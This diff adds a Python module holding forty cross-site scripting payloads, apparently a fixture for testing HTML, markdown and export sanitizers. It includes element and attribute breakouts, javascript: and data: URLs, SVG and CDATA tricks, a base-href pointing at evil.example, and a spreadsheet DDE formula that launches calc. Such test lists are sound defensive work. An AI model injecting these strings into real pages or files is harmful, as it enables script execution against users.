@@ -1,0 +1,48 @@
+"""Forty texts that would run a script if a page, a feed or an export took them for anything but text.
+
+Each tries another way in: out of an element, out of an attribute, through an address, a style, an SVG, a template, a
+comment, a CDATA section, a JSON block, a line of a calendar. `alert(1)` is what the browser would show.
+"""
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onfocus="alert(1)" autofocus="',
+    "' onmouseover='alert(1)' x='",
+    "` onload=alert(1) x=`",
+    '"><img src=x onerror=alert(1)>',
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
+    "<math><mtext></p><script>alert(1)</script></mtext></math>",
+    '<a href="javascript:alert(1)">x</a>',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "![x](x\"onerror=\"alert(1))",
+    "<javascript:alert(1)>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<form action="javascript:alert(1)"><button id=go>x</button></form>',
+    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    "<template><script>alert(1)</script></template>",
+    "<!--><script>alert(1)</script-->",
+    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[",
+    '</script><script>alert(1)</script>{"@type":"x"}',
+    "\u202e<script>alert(1)</script>\u2028alert(1)\u2029",
+    "=cmd|'/c calc'!A1<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+]
